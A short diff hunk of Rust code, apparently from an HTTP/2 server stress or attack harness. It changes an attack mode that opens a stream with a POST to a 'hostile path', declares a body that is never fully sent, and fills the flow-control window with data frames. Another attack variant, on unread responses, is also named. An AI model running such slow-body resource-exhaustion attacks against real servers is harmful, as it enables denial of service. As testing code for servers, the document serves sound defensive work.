@@ -262,10 +262,11 @@ async fn connection(attack: Attack, target: &Target, number: u64) -> io::Result<
             let mut first = frames::preface(&[]);
             first.extend(frames::post(1, HOSTILE_PATH, &target.next_key(), NEVER_SENT));
             let body = [b'0'; NEVER_SENT - 1];
-            let frames = |part: &[u8]| {
+            let parted = |part: &[u8]| {
                 part.chunks(FRAME_BYTES).flat_map(|part| frames::data(1, part, false)).collect()
             };
-            let parts = std::iter::once(first).chain(body.chunks(WINDOW_BYTES).map(frames));
+            let parts = [first, frames::settings_taken()].into_iter();
+            let parts = parts.chain(body.chunks(WINDOW_BYTES).map(parted));
             send_and_wait(from, to, parts).await
         }
         Attack::UnreadFirstResponses => {
